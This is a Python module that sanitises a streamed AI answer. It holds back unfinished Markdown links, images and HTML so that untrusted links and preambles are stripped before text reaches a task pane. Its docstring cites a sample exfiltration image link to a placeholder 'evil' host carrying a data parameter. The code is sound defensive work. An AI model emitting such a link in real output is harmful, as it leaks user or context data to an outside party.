"""Sanitising a streamed answer: deltas the task pane may show at once, never an exfiltration link in the making.

Text is released only up to a safe cut: before an unfinished Markdown link or image, HTML tag or comment, so a
half-streamed `![x](https://evil/?d=...` is never shown. Each release is the sanitised prefix minus what was already
sent. If a later chunk changes how an earlier part sanitises (a preamble recognised once its line ends), releases
stop and the final `done` output, sanitised as a whole, is the answer to show.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from backend.skills import sanitize, spotlight

_COMPLETE_BRACKET = re.compile(r"\[[^\]\n]*\](?:\([^)\n]*\)|\[[^\]\n]*\]|[^(\[])")
MAX_HELD_TAG = 500  # a '<' this far back without '>' is a comparison, not a tag in the making
PREAMBLE_WINDOW = 200  # rewrite-style answers: hold the first line (up to this many characters) to judge it


def safe_cut(text: str) -> int:
    """The length of the prefix of text that cannot change by what comes next."""
    cut = len(text)
    bracket = text.rfind("[")
    if bracket != -1:
        rest = text[bracket:]
        if "\n" not in rest and not _COMPLETE_BRACKET.match(rest):
            cut = bracket - 1 if bracket > 0 and text[bracket - 1] == "!" else bracket
    angle = text.rfind("<")
    if angle != -1 and ">" not in text[angle:] and len(text) - angle < MAX_HELD_TAG:
        cut = min(cut, angle)
    if text.endswith("!"):
        cut = min(cut, len(text) - 1)  # may become "![" with the next chunk
    return cut


def _without_possible_closing(text: str) -> str:
    """Hold back a last line that is, or may become, a closing offer ("Let me know if..."), and final spaces."""
    head, newline, last = text.rpartition("\n")
    words = last.strip().lower()
    if newline and any(p.startswith(words) or words.startswith(p) for p in sanitize.CLOSING_PHRASES):
        text = head
    return text.rstrip()


class StreamSanitizer:
    """Feed model chunks and send what `feed` returns as deltas, then `flush()` as the last one; `finish()` is the
    `done` output (equal to the deltas joined, unless a late chunk changed an earlier part)."""

    def __init__(self, allowed_hosts: Iterable[str] = (), rewrite_style: bool = False, unmark: bool = False):
        self.allowed_hosts = tuple(allowed_hosts)
        self.rewrite_style = rewrite_style
        self.unmark = unmark
        self.raw = ""
        self.sent = ""
        self.diverged = False

    def _clean(self, text: str) -> str:
        """The sanitised form of a prefix, without the final whitespace trim (more text may follow)."""
        if self.unmark:
            text = spotlight.unmark(text)
        text = sanitize.strip_untrusted_links(sanitize.strip_html(text), self.allowed_hosts)
        if self.rewrite_style:
            text = sanitize.strip_preamble(text)
        return text.lstrip()

    def feed(self, chunk: str) -> str:
        """Add a chunk; the newly releasable text (may be empty)."""
        self.raw += chunk
        if self.diverged:
            return ""
        if self.rewrite_style and "\n" not in self.raw and len(self.raw) < PREAMBLE_WINDOW:
            return ""
        candidate = self._clean(self.raw[: safe_cut(self.raw)])
        if self.rewrite_style:
            candidate = _without_possible_closing(candidate)
        if not candidate.startswith(self.sent):
            self.diverged = True
            return ""
        delta, self.sent = candidate[len(self.sent) :], candidate
        return delta

    def flush(self) -> str:
        """At the end of the stream: the last delta (what was held back), unless the output diverged."""
        final = self.finish()
        if self.diverged or not final.startswith(self.sent):
            return ""
        delta, self.sent = final[len(self.sent) :], final
        return delta

    def finish(self) -> str:
        """The whole answer sanitised: the `done` output."""
        text = spotlight.unmark(self.raw) if self.unmark else self.raw
        return sanitize.sanitize_output(text, self.allowed_hosts, self.rewrite_style)
